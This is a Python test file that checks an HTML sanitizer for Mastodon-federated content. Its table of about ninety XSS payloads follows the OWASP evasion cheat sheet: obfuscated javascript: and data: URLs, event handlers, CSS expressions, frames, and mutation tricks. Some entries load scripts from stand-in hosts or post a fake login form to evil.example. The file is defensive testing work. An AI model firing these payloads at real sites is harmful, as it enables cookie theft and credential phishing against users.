"""Sanitising remote HTML: nothing executable survives, Mastodon's own markup does.

The hostile table follows the families of the OWASP XSS filter evasion cheat sheet:
script and event-handler injection, `javascript:`/`data:`/`vbscript:` URLs (plain,
mixed case, entity-encoded with and without semicolons, split by tabs, newlines, NULs
and control characters), CSS (`style` elements and attributes, `expression()`),
frames, objects, forms, SVG/MathML, IE conditional comments and mutation-XSS tricks.
Each output is parsed back and checked structurally, not by searching for strings.
"""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from talentfed.text import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    ALLOWED_URL_SCHEMES,
    LINK_REL,
    MASTODON_CLASSES,
    render_markdown,
    sanitize_html,
)

BASE64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
ENCODED_DECIMAL = "".join(f"&#{ord(c)};" for c in "javascript:alert('XSS')")
ENCODED_LONG_DECIMAL = "".join(f"&#{ord(c):07d}" for c in "javascript:alert('XSS')")
ENCODED_HEX = "".join(f"&#x{ord(c):X}" for c in "javascript:alert('XSS')")

HOSTILE = {
    # <script> in its many spellings
    "script": "<script>alert('XSS')</script>",
    "script src": '<SCRIPT SRC="https://xss.example/xss.js"></SCRIPT>',
    "script slash attribute": '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
    "script half open": "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "double open bracket": '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "split script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "attribute breakout": '"><script>alert(1)</script>',
    "end title": '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "malformed img then script": '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "polyglot": (
        "javascript:/*--></title></style></textarea></script></xmp>"
        "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"
    ),
    # images and event handlers
    "img javascript": "<IMG SRC=\"javascript:alert('XSS');\">",
    "img unquoted": "<IMG SRC=javascript:alert('XSS')>",
    "img mixed case": "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "img grave accents": "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "img fromCharCode": "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "img onmouseover": "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "img onerror": '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "img onerror encoded": f'<img src=x onerror="{ENCODED_LONG_DECIMAL}">',
    "img dynsrc": "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "img style expression": "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "a onmouseover": '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "a onclick on good link": '<a href="https://ok.example/" onclick="alert(1)" target="_blank">ok</a>',
    "body onload": "<BODY ONLOAD=alert('XSS')>",
    "body odd onload": '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "body background": "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "svg onload": "<svg/onload=alert('XSS')>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg xlink": '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "details ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "video source onerror": '<video><source onerror="alert(1)"></video>',
    "marquee onstart": "<marquee onstart=alert(1)>x</marquee>",
    "div onpointerover": '<div onpointerover="alert(1)">hover</div>',
    "heading handlers": '<h1 onclick=alert(1) style="font-size:999px">big</h1>',
    "list handlers": '<ol start="1" onclick="x"><li value="2" style="x">item</li></ol>',
    "span handler and classes": '<span class="mention x-evil" onclick="alert(1)">hi</span>',
    "input image": '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "bgsound": "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "table background": "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    # javascript: links, obfuscated
    "href javascript": "<a href=\"javascript:alert('XSS')\">x</a>",
    "href unquoted": "<a href=javascript:alert(1)>x</a>",
    "href mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "href decimal entities": f'<a href="{ENCODED_DECIMAL}">x</a>',
    "href long decimal entities": f'<a href="{ENCODED_LONG_DECIMAL}">x</a>',
    "href hex entities": f'<a href="{ENCODED_HEX}">x</a>',
    "href partial entities": '<a href="&#x6a;avascript&#x3a;alert(1)">x</a>',
    "href zero padded": '<a href="&#0000106avascript:alert(1)">x</a>',
    "href named colon": '<a href="javascript&colon;alert(1)">x</a>',
    "href named tab": '<a href="java&Tab;script:alert(1)">x</a>',
    "href named parens": '<a href="jAvAsCrIpT&colon;alert&lpar;1&rpar;">x</a>',
    "href embedded tab": "<a href=\"jav\tascript:alert('XSS');\">x</a>",
    "href encoded tab": "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>",
    "href encoded newline": "<a href=\"jav&#x0A;ascript:alert('XSS');\">x</a>",
    "href encoded carriage return": "<a href=\"jav&#x0D;ascript:alert('XSS');\">x</a>",
    "href NUL": '<a href="java\x00script:alert(1)">x</a>',
    "href leading spaces and control": "<a href=\" &#14;  javascript:alert('XSS');\">x</a>",
    "href leading control character": '<a href="\x01javascript:alert(1)">x</a>',
    "href vbscript": "<a href=\"vbscript:msgbox('XSS')\">x</a>",
    "href VBScript": "<a href=\"VBScript:msgbox('XSS')\">x</a>",
    "href livescript": "<a href=\"livescript:alert('XSS')\">x</a>",
    "href data html": f'<a href="data:text/html;base64,{BASE64_SCRIPT}">x</a>',
    "href data svg": '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>',
    "href DATA uppercase": f'<a href="DATA:text/html;base64,{BASE64_SCRIPT}">x</a>',
    "href relative": '<a href="/admin/delete-everything">x</a>',
    "href protocol relative": '<a href="//evil.example/">x</a>',
    "href style and handler": '<a href="https://ok.example/" style="color:red" onmouseover="x">ok</a>',
    "rel opener": '<a href="https://ok.example/" rel="opener" target="_blank">ok</a>',
    # CSS
    "style element": (
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>"
    ),
    "style type javascript": "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "style class hijack": (
        "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>"
    ),
    "div background image": "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "div expression": "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    "overlay": '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    "link stylesheet": '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    # documents, frames, objects
    "meta refresh": '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "meta refresh data": f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,{BASE64_SCRIPT}">',
    "base href": "<BASE HREF=\"javascript:alert('XSS');//\">",
    "base href hijack": '<base href="https://evil.example/">',
    "iframe": "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "frameset": "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "object scriptlet": '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
    "object javascript": '<object data="javascript:alert(1)"></object>',
    "embed svg": (
        '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" '
        'type="image/svg+xml" AllowScriptAccess="always"></EMBED>'
    ),
    "applet": '<applet code="Evil.class">x</applet>',
    "template": "<template><script>alert(1)</script></template>",
    "xmp": "<xmp><script>alert(1)</script></xmp>",
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "math maction": (
        '<math><maction actiontype="statusline#http://x.example" '
        'xlink:href="javascript:alert(2)">CLICKME</maction></math>'
    ),
    "math mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "conditional comment": "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    # remote forms
    "login form": (
        '<form action="https://evil.example/steal"><input name="password" type="password">'
        "<button>Log in</button></form>"
    ),
    "formaction": '<button formaction="javascript:alert(1)">x</button>',
    "isindex": "<isindex action=javascript:alert(1) type=image>",
    "select": '<select onchange="alert(1)"><option>x</option></select>',
    "textarea": "<textarea autofocus onfocus=alert(1)>x</textarea>",
}

FORBIDDEN_ATTRIBUTES_ANYWHERE = {"style", "src", "srcdoc", "action", "formaction", "id", "name"}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []
        self.events: list[tuple] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self.events.append(("start", tag, tuple(sorted((k, v or "") for k, v in attrs))))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        self.events.append(("end", tag))

    def handle_data(self, data: str) -> None:
        if self.events and self.events[-1][0] == "text":
            self.events[-1] = ("text", self.events[-1][1] + data)
        else:
            self.events.append(("text", data))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def unknown_decl(self, data: str) -> None:
        self.comments.append(data)


def _parse(html: str) -> _Collector:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector


def _assert_href_safe(href: str) -> None:
    assert href == href.strip() and not any(ord(c) < 0x20 or ord(c) == 0x7F for c in href), href
    scheme = urlsplit(href).scheme.lower()
    assert scheme in ALLOWED_URL_SCHEMES, f"href {href!r} has scheme {scheme!r}"


def assert_nothing_executable(html: str) -> None:
    parsed = _parse(html)
    assert not parsed.comments, f"comments or declarations survived: {parsed.comments}"
    for tag, attrs in parsed.tags:
        assert tag in ALLOWED_TAGS, f"<{tag}> survived in {html!r}"
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"class", "rel"} if tag in ("a", "span") else set())
        for name, value in attrs.items():
            assert not name.startswith("on"), f"event handler {name} survived in {html!r}"
            assert name not in FORBIDDEN_ATTRIBUTES_ANYWHERE, f"{name} survived in {html!r}"
            assert name in allowed, f"{name} on <{tag}> survived in {html!r}"
            if name == "href":
                _assert_href_safe(value or "")
            if name == "class":
                assert set((value or "").split()) <= MASTODON_CLASSES, value
        if tag == "a":
            assert attrs.get("rel") == LINK_REL


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_nothing_executable_survives(html: str) -> None:
    cleaned = sanitize_html(html)
    assert_nothing_executable(cleaned)
    # Sanitising is stable: a second pass finds nothing more to remove.
    assert sanitize_html(cleaned) == cleaned


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markdown_is_escaped(html: str) -> None:
    # Members' Markdown never passes raw HTML through.
    assert_nothing_executable(render_markdown(html))


def test_the_table_is_large_and_the_checker_would_notice() -> None:
    assert len(HOSTILE) >= 90
    for unsafe in (
        "<script>x</script>",
        '<a href="javascript:x" rel="nofollow noopener noreferrer">x</a>',
        '<p onclick="x">x</p>',
        '<p style="x">x</p>',
        '<span class="evil">x</span>',
        "<!-- x -->",
    ):
        with pytest.raises(AssertionError):
            assert_nothing_executable(unsafe)


def _events(html: str) -> list[tuple]:
    return _parse(html).events


WITH_REL = f'rel="{LINK_REL}"'
MASTODON_CONTENT = {
    "mention": (
        '<p><span class="h-card" translate="no"><a href="https://mastodon.social/@Gargron" '
        'class="u-url mention">@<span>Gargron</span></a></span> hello</p>',
        '<p><span class="h-card" translate="no"><a href="https://mastodon.social/@Gargron" '
        f'class="u-url mention" {WITH_REL}>@<span>Gargron</span></a></span> hello</p>',
    ),
    "hashtag": (
        '<p>Good Morning! <a href="https://mastodon.social/tags/coffee" class="mention hashtag" '
        'rel="tag">#<span>coffee</span></a></p>',
        '<p>Good Morning! <a href="https://mastodon.social/tags/coffee" class="mention hashtag" '
        f"{WITH_REL}>#<span>coffee</span></a></p>",
    ),
    "shortened link": (
        '<p><a href="https://joinmastodon.org/apps/very/long/path" target="_blank" '
        'rel="nofollow noopener noreferrer" translate="no"><span class="invisible">https://</span>'
        '<span class="ellipsis">joinmastodon.org/apps/very</span><span class="invisible">/long/path'
        "</span></a></p>",
        f'<p><a href="https://joinmastodon.org/apps/very/long/path" translate="no" {WITH_REL}>'
        '<span class="invisible">https://</span><span class="ellipsis">joinmastodon.org/apps/very'
        '</span><span class="invisible">/long/path</span></a></p>',
    ),
    "formatting": (
        "<p>a<br>b <strong>s</strong> <em>e</em> <b>b</b> <i>i</i> <u>u</u> <del>d</del> <s>s</s>"
        " <code>c</code> x<sup>2</sup> H<sub>2</sub>O</p><pre><code>x = 1\n</code></pre>"
        '<blockquote><p>q</p></blockquote><ul><li>a</li></ul><ol start="3" reversed><li value="5">b</li></ol>'
        "<h2>Heading</h2><hr>",
        "<p>a<br>b <strong>s</strong> <em>e</em> <b>b</b> <i>i</i> <u>u</u> <del>d</del> <s>s</s>"
        " <code>c</code> x<sup>2</sup> H<sub>2</sub>O</p><pre><code>x = 1\n</code></pre>"
        '<blockquote><p>q</p></blockquote><ul><li>a</li></ul><ol start="3" reversed><li value="5">b</li></ol>'
        "<h2>Heading</h2><hr>",
    ),
    "other schemes": (
        '<a href="mailto:ada@uni.example">mail</a> <a href="gemini://gem.example/">gem</a>',
        f'<a href="mailto:ada@uni.example" {WITH_REL}>mail</a> '
        f'<a href="gemini://gem.example/" {WITH_REL}>gem</a>',
    ),
    "text with entities": ("<p>5 &lt; 6 &amp;&amp; ü &quot;q&quot;</p>", '<p>5 &lt; 6 &amp;&amp; ü "q"</p>'),
    "international link": (
        '<a href="https://例え.jp/パス?q=1&amp;r=2">i</a>',
        f'<a href="https://例え.jp/パス?q=1&amp;r=2" {WITH_REL}>i</a>',
    ),
}


@pytest.mark.parametrize(("html", "expected"), MASTODON_CONTENT.values(), ids=MASTODON_CONTENT.keys())
def test_mastodon_content_survives(html: str, expected: str) -> None:
    cleaned = sanitize_html(html)
    assert _events(cleaned) == _events(expected)
    assert_nothing_executable(cleaned)


def test_text_of_removed_tags_is_kept_but_not_code() -> None:
    cleaned = sanitize_html("<div><font>kept</font><script>gone()</script><style>.x{}</style></div>")
    assert cleaned == "kept"


def test_nul_characters_are_removed() -> None:
    assert "\x00" not in sanitize_html("a\x00b<p>c\x00</p>")
